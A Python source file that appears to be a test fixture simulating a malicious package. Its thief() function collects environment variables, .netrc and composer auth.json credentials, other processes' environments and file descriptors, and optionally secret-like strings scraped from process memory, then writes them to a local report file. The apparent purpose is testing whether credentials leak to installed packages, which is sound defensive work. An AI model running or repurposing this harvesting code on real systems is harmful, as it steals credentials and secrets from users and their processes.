# SPDX-License-Identifier: ISC
"""Code of a package that steals, for whichever way it is run: "thief(WAY)" adds to $REPORT that it ran, and what it
could read: its environment, the files where credentials lie, and of every process its environment, what its descriptors
give and, where $THIEF_LOOKS_INTO says so, what in its memory looks like a secret of these tests or its base64."""

import glob
import os
import re

LOOKS_SECRET = re.compile(rb"[0-9a-f]{40}|[A-Za-z0-9+/]{50,}={0,2}")
MOST = 1 << 16


def read(path):
    try:
        # Never waits: a pipe or a terminal of another process is not read.
        with open(os.open(path, os.O_RDONLY | os.O_NONBLOCK), "rb") as f:
            return f.read(MOST) if path.startswith("/proc") or os.path.isfile(path) else b""
    except (OSError, ValueError):
        return b""


def memory(process):
    found = set()
    try:
        with open(process + "/maps", encoding="ascii") as maps, open(process + "/mem", "rb", 0) as mem:
            for line in maps:
                if " rw-" not in line:
                    continue
                first, last = (int(at, 16) for at in line.split()[0].split("-"))
                try:
                    mem.seek(first)
                    found.update(LOOKS_SECRET.findall(mem.read(min(last - first, 1 << 22))))
                except (OSError, ValueError, OverflowError):
                    pass
    except OSError:
        pass
    return b"\n".join(found)


def thief(way):
    report = os.environ.get("REPORT")
    if not report:
        return
    home = os.environ.get("HOME", "/")
    parts = [b"ran " + way.encode()]
    parts += [f"{k}={v}".encode() for k, v in os.environ.items()]
    parts += [read(f) for f in (os.environ.get("NETRC", "/"), home + "/.netrc", home + "/.config/composer/auth.json")]
    for process in glob.glob("/proc/[0-9]*"):
        if process == f"/proc/{os.getpid()}":
            continue
        parts.append(read(process + "/environ"))
        parts += [read(fd) for fd in glob.glob(process + "/fd/*") if os.path.isfile(fd)]
        if os.environ.get("THIEF_LOOKS_INTO"):
            parts.append(memory(process))
    with open(report, "ab") as f:
        f.write(b"\n".join(parts) + b"\n")
